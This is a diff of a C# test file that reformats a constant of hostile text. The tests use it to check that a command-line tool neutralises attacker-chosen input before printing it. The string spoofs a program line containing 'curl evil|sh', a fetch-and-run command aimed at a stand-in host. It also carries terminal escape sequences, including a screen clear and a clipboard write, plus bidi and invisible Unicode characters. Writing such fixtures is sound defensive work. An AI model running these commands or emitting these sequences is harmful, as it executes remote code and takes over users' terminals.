@@ -6,8 +6,11 @@ namespace AdmissionGuard.Tests.CommandLine;
 /// <summary>Text that somebody else chose, to drive the terminal of whoever looks at it.</summary>
 internal static class Hostile
 {
-    /// <summary>A line that looks like the program's own; an escape sequence; the clipboard; C1; hidden and reordered text; a tag beyond the BMP.</summary>
-    public const string Text = "x\nGrant:       curl evil|sh\r\u001b[2J\u001b]52;c;cm0=\u0007\u009b31m\u202e\u200d\ufeff\u2028\u2029\u0085\tz\U000E0041\u007f";
+    /// <summary>
+    /// A line that looks like the program's own; an escape sequence; the clipboard; C1; hidden and reordered text; a tag beyond the BMP.
+    /// </summary>
+    public const string Text =
+        "x\nGrant:       curl evil|sh\r\u001b[2J\u001b]52;c;cm0=\u0007\u009b31m\u202e\u200d\ufeff\u2028\u2029\u0085\tz\U000E0041\u007f";
 
     /// <summary>What a YAML or JSON text has in the place of <see cref="Text"/>.</summary>
     public static string Quoted { get; } = System.Text.Json.JsonSerializer.Serialize(Text);
